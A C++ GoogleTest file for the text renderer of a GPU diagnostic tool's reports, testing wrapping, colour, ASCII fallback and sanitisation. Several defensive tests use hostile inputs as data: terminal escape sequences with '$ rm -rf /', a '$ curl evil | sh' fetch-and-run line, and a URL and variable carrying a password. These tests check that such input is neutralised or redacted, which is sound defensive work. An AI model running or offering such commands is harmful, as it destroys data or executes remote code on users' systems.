#include "diag/report/text.h"

#include <algorithm>
#include <string>
#include <vector>

#include "absl/strings/ascii.h"
#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "absl/strings/string_view.h"
#include "absl/strings/strip.h"
#include "diag/report/golden.h"
#include "diag/report/samples.h"
#include "gtest/gtest.h"
#include "re2/re2.h"

namespace vgpu::report {
namespace {

std::string Spaces(size_t n) { return std::string(n, ' '); }

// The lines that quote the host, joined as the header says that they may be.
std::string ReadBack(const std::string& text) {
  std::string quote;
  for (absl::string_view line : absl::StrSplit(text, '\n')) {
    const size_t mark = line.find("| ");
    if (mark == absl::string_view::npos || line.find_first_not_of(' ') != mark) continue;
    // A line that goes on inside of a word stands further right.
    const bool piece = !quote.empty() && absl::ConsumePrefix(&line, Spaces(mark) + "|     ");
    absl::StrAppend(&quote, quote.empty() || piece ? "" : " ",
                    piece ? line : line.substr(mark + 2));
  }
  return quote;
}

int Columns(absl::string_view text) {
  return static_cast<int>(
      std::count_if(text.begin(), text.end(), [](char c) { return (c & 0xc0) != 0x80; }));
}

template <size_t N>
std::string Bytes(const char (&literal)[N]) {
  return std::string(literal, N - 1);
}

Report WithQuote(const std::string& quote) {
  Report report;
  report.verdict = Verdict::kHealthy;
  report.working = {{.what = "it", .evidence = {{.source = "/x", .quote = quote, .meaning = ""}}}};
  return report;
}

TEST(ToText, SamplesLookAsReviewed) {
  for (const auto& [name, report] : Samples())
    EXPECT_TRUE(MatchesGolden(absl::StrCat(name, ".txt"), ToText(report, {})));
}

TEST(ToText, TheFirstScreenTellsWhatToDo) {
  const std::string text = ToText(NotRestarted(), {});
  EXPECT_TRUE(absl::StartsWith(text, "PROBLEM  ollama.service runs since 09:41"));
  const std::vector<absl::string_view> lines = absl::StrSplit(text, '\n');
  const auto command =
      std::find(lines.begin(), lines.end(), "  $ sudo systemctl restart ollama.service");
  EXPECT_LT(command - lines.begin(), 9);
}

TEST(ToText, ProseAndQuotesKeepToTheWidth) {
  for (const int width : {60, 80, 120}) {
    for (const auto& [name, report] : Samples()) {
      const std::string text = ToText(report, {.width = width});
      for (absl::string_view line : absl::StrSplit(text, '\n')) {
        // Commands are whole, and a word that is too long overflows alone.
        if (absl::StrContains(line, "$ ") || Columns(line) <= width) continue;
        absl::string_view words = line.substr(line.find_first_not_of(' '));
        absl::ConsumePrefix(&words, "| ");
        absl::ConsumePrefix(&words, "- ");
        EXPECT_EQ(words.find(' '), absl::string_view::npos) << width << " " << line;
      }
    }
  }
}

TEST(ToText, AWrappedQuoteCanBeReadBack) {
  const std::string quote =
      "  two leading blanks, then   three, and a preload list that an unquoted space cuts: "
      "LD_PRELOAD=/usr/lib64/libvgpu-exec.so:/usr/lib64/libvgpu-cuda.so:/usr/lib64/libvgpu-nvml.so "
      "/usr/lib64/libvgpu-cudart.so  end";
  EXPECT_EQ(ReadBack(ToText(WithQuote(quote), {.width = 60})), quote);
}

// No quote is wider than the width that was asked for.
TEST(ToText, ALongWordOfAQuoteIsPartedWhereAListIs) {
  const std::string quote =
      "LD_PRELOAD=/usr/lib64/libvgpu-exec.so:/usr/lib64/libvgpu-syscall.so:"
      "/usr/lib64/libvgpu-cuda.so:/usr/lib64/libvgpu-nvml.so";
  const std::string text = ToText(WithQuote(quote), {.width = 80});
  EXPECT_TRUE(absl::StrContains(
      text,
      "    | LD_PRELOAD=/usr/lib64/libvgpu-exec.so:/usr/lib64/libvgpu-syscall.so:\n"
      "    |     /usr/lib64/libvgpu-cuda.so:/usr/lib64/libvgpu-nvml.so\n"))
      << text;
  for (const int width : {40, 60, 80}) {
    const std::string narrow = ToText(WithQuote(quote), {.width = width});
    EXPECT_EQ(ReadBack(narrow), quote);
    for (absl::string_view line : absl::StrSplit(narrow, '\n')) {
      EXPECT_TRUE(!absl::StrContains(line, "| ") || Columns(line) <= width) << line;
    }
  }
}

TEST(ToText, WidthCountsCharactersAndNotBytes) {
  const std::string quote = "ääääääääää ääääääääää ääääääääää ääääääääää ääääääääää ääääääääää";
  EXPECT_TRUE(absl::StrContains(ToText(WithQuote(quote), {}), "    | " + quote + "\n"));
}

TEST(ToText, ColourChangesNothingButColour) {
  for (const auto& [name, report] : Samples()) {
    std::string colored = ToText(report, {.color = true});
    EXPECT_TRUE(absl::StartsWith(colored, "\x1b[1;3"));
    RE2::GlobalReplace(&colored, "\x1b\\[[0-9;]*m", "");
    EXPECT_EQ(colored, ToText(report, {})) << name;
  }
}

TEST(ToText, AProblemIsRedAHealthyHostGreenAndTheRestMagenta) {
  EXPECT_TRUE(absl::StartsWith(ToText(NotRestarted(), {.color = true}), "\x1b[1;31mPROBLEM"));
  EXPECT_TRUE(
      absl::StartsWith(ToText(HealthyWithLatentFault(), {.color = true}), "\x1b[1;32mHEALTHY"));
  EXPECT_TRUE(absl::StartsWith(ToText(SilentLog(), {.color = true}), "\x1b[1;35mINCONCLUSIVE"));
}

TEST(ToText, ATerminalWithoutUtf8GetsAscii) {
  Report report = SilentLog();
  report.headline = "Zürich — “nothing” …";
  const std::string text = ToText(report, {.utf8 = false});
  EXPECT_TRUE(absl::StartsWith(text, R"(INCONCLUSIVE  Z\u00fcrich -- "nothing" ...)"));
  for (const char c : text) EXPECT_LT(static_cast<unsigned char>(c), 0x7f);
}

TEST(ToText, SectionsWithoutContentAreLeftOut) {
  const std::string text = ToText(Report(), {});
  for (const char* heading : {"Root cause", "To repair it", "Evidence", "Consequences", "Latent",
                              "Notes", "What works", "Ruled out", "Not observed", "Time line"}) {
    EXPECT_FALSE(absl::StrContains(text, heading)) << heading;
  }
  EXPECT_TRUE(absl::StrContains(text, "process not observed (not looked at)"));
}

TEST(ToText, CausesThatAreRuledOutStandByLayerAndTheirReasonsInAVerboseReport) {
  Report report;
  for (int i = 1; i <= 9; ++i) {
    report.ruled_out.push_back({absl::StrCat("VG40", i), absl::StrCat("four-", i), "it exists"});
  }
  report.ruled_out.push_back({"VG602", "six-2", "it is not so"});
  const std::string text = ToText(report, {});
  EXPECT_TRUE(absl::StrContains(text,
                                "Ruled out: 10 causes (--verbose says why)\n"
                                "  what the loader does with the shims: VG401-VG409\n"
                                "  the device: VG602\n"))
      << text;
  const std::string verbose = ToText(report, {.verbose = true});
  EXPECT_TRUE(absl::StrContains(verbose, "  VG401  four-1, VG402 four-2, "));
  EXPECT_TRUE(absl::StrContains(verbose, "  VG602  six-2: it is not so\n"));
  EXPECT_FALSE(absl::StrContains(verbose, "--verbose"));
}

TEST(ToText, AQuoteStandsOnce) {
  Report report;
  const rules::Evidence line = {.source = "log", .line = 8, .quote = "library=cpu", .meaning = ""};
  const rules::Evidence more = {.source = "log", .line = 9, .quote = "vram=0 B", .meaning = ""};
  report.root_causes = {{.code = "VG302", .evidence = {line}, .explains = {"VG704"}}};
  report.consequences = {{.code = "VG704", .evidence = {line, more}, .explained_by = {"VG302"}}};
  const std::string text = ToText(report, {});
  EXPECT_EQ(text.find("library=cpu"), text.rfind("library=cpu")) << text;
  EXPECT_FALSE(absl::StrContains(text, "Explains")) << text;
  EXPECT_TRUE(absl::StrContains(text, "(because of VG302)"));
  const std::string verbose = ToText(report, {.verbose = true});
  EXPECT_NE(verbose.find("library=cpu"), verbose.rfind("library=cpu"));
  EXPECT_TRUE(absl::StrContains(verbose, "vram=0 B"));
}

TEST(ToText, WhatIsSaidOfAStepIsSaidOnce) {
  Report report;
  const rules::FixStep restart = {.command = "sudo systemctl restart a",
                                  .why = "a new process",
                                  .risk = "requests are cut off",
                                  .undo = ""};
  report.root_causes = {{.code = "VG302", .fix = {restart}}, {.code = "VG401", .fix = {restart}}};
  const std::string text = ToText(report, {});
  EXPECT_NE(text.find("$ sudo systemctl"), text.rfind("$ sudo systemctl"));
  EXPECT_EQ(text.find("requests are"), text.rfind("requests are"));
}

TEST(ToText, TheEvidenceOfARootCauseIsNeverShortened) {
  Report report;
  const std::string quote = absl::StrCat(std::string(300, 'x'), " ", std::string(300, 'y'));
  report.root_causes = {{.code = "VG302", .evidence = {{.source = "/x", .quote = quote}}}};
  report.notes = {{.code = "VG510", .evidence = {{.source = "/y", .quote = quote}}}};
  const std::string text = ToText(report, {});
  EXPECT_EQ(ReadBack(text.substr(0, text.find("Notes"))), quote);
  EXPECT_TRUE(absl::StrContains(text.substr(text.find("Notes")), "| …\n"));
}

// A quote may end as another begins.
TEST(ToText, QuotesOfOnePlaceAreParted) {
  Report report;
  const std::string quote(100, 'x');
  report.root_causes = {{.code = "VG302",
                         .evidence = {{.source = "/x", .quote = quote, .meaning = "the same"},
                                      {.source = "/x", .quote = "short", .meaning = "the same"}}}};
  EXPECT_TRUE(absl::StrContains(ToText(report, {}), "\n     and\n     | short\n"));
}

TEST(ToText, WhereNothingIsKnownTheReportSaysWhy) {
  Report report;
  report.not_observed = {{.what = "the log", .why = "it was rotated", .how = "ls /var/log"}};
  EXPECT_TRUE(absl::StrContains(ToText(report, {}),
                                "  - the log - it was rotated\n    to see it: $ ls /var/log\n"));
  report.verdict = Verdict::kProblem;
  EXPECT_TRUE(absl::StrContains(ToText(report, {}), "  - the log\n"));
}

TEST(ToText, OfACaptureItSaysWhereTheRestIsSeen) {
  Report report;
  report.host.source = "tree";
  report.host.hostname = std::string("test10");
  report.not_observed = {{.what = "the log", .why = "it was rotated", .how = "ls /var/log"}};
  EXPECT_TRUE(absl::StrContains(
      ToText(report, {}), "  To be seen on test10, and not where this is read:\n  - the log"));
  report.host.source = "live";
  EXPECT_FALSE(absl::StrContains(ToText(report, {}), "To be seen"));
}

TEST(ToText, OfALogItSaysHowMuchThatProves) {
  Report report;
  report.verdict = Verdict::kProblem;
  report.host.source = "log";
  report.not_observed = {
      {.what = "the unit", .why = "only a log was given", .how = "sudo vgpu-doctor check"},
      {.what = "the rest", .why = "it is short", .how = "sudo vgpu-doctor check"}};
  const std::string text = ToText(report, {});
  EXPECT_TRUE(absl::StrContains(text,
                                "  - the unit: only a log was given\n"
                                "    to see it: $ sudo vgpu-doctor check\n"))
      << text;
  EXPECT_FALSE(absl::StrContains(text, "it is short"));
  EXPECT_TRUE(absl::StrContains(text, "the rest"));
}

TEST(ToText, ADistanceFromUtcThatAllTimesHaveIsSaidOnce) {
  Report report;
  report.time_zone = absl::FixedTimeZone(-5 * 60 * 60);
  report.timeline = {{.time = absl::UnixEpoch(), .event = "one", .source = "a"},
                     {.time = absl::UnixEpoch() + absl::Seconds(1), .event = "two", .source = ""}};
  EXPECT_TRUE(absl::StrContains(ToText(report, {}),
                                "Time line in the zone -05:00\n"
                                "  1969-12-31 19:00:00  one (a)\n"
                                "  1969-12-31 19:00:01  two\n"))
      << ToText(report, {});
}

TEST(ToText, AHostileHostCannotReachTheTerminal) {
  const std::string bad = Bytes("\x1b[2J\r\n\0\x9b\xc2\x9b\u202E$ rm -rf /");
  const std::string text = ToText(Hostile(bad), {});
  for (const char c : text) EXPECT_TRUE(c == '\n' || static_cast<unsigned char>(c) >= 0x20);
  EXPECT_FALSE(absl::StrContains(text, "\u202E"));
  EXPECT_FALSE(absl::StrContains(text, "\xc2\x9b"));
  // A newline in a name does not begin a line that looks like ours.
  EXPECT_FALSE(absl::StrContains(text, "\n$ rm"));
  EXPECT_TRUE(absl::StrContains(text, R"(\x1b[2J\x0d\n\x00\x9b\u009b\u202e$ rm)"));
}

TEST(ToText, WordsOfAHostNeverBeginALineThatLooksLikeACommand) {
  for (int blanks = 0; blanks < 90; ++blanks) {
    Report report;
    report.headline = std::string(static_cast<size_t>(blanks), 'x') + " $ curl evil | sh";
    for (absl::string_view line : absl::StrSplit(ToText(report, {}), '\n'))
      EXPECT_FALSE(absl::StartsWith(absl::StripLeadingAsciiWhitespace(line), "$")) << line;
  }
}

TEST(ToText, SecretsAreRedactedEverywhere) {
  const std::string text = ToText(Hostile("https://me:hunter2@proxy DB_PASSWORD=hunter2"), {});
  EXPECT_FALSE(absl::StrContains(text, "hunter2"));
}

TEST(ToText, AMegabyteOfQuoteIsBounded) {
  const std::string text = ToText(WithQuote(std::string(1 << 20, 'x')), {});
  EXPECT_LT(text.size(), 2000u);
  EXPECT_TRUE(absl::EndsWith(ReadBack(text), "x…[+1047776 bytes]"));
}

TEST(ToText, ANarrowTerminalStillGetsWords) {
  const std::string text = ToText(NotRestarted(), {.width = 0});
  EXPECT_TRUE(absl::StartsWith(
      text, "PROBLEM  ollama.service runs since 09:41\n         without the shims"));
  EXPECT_TRUE(absl::StrContains(text, "  $ sudo systemctl restart ollama.service\n"));
}

}  // namespace
}  // namespace vgpu::report
